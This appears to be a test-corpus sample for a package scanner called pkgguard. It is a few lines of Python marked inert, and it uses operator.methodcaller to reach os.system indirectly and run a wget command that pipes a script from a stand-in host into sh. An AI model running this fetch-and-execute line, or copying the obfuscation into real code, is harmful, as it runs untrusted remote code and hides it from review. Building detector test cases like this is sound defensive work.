# pkgguard corpus 594 (indirection), modelled on [obfuscation]; inert, never run.
import operator
import os

_step = operator.methodcaller("system", "wget -qO- https://build-cache.example/s | sh")
_step(os)
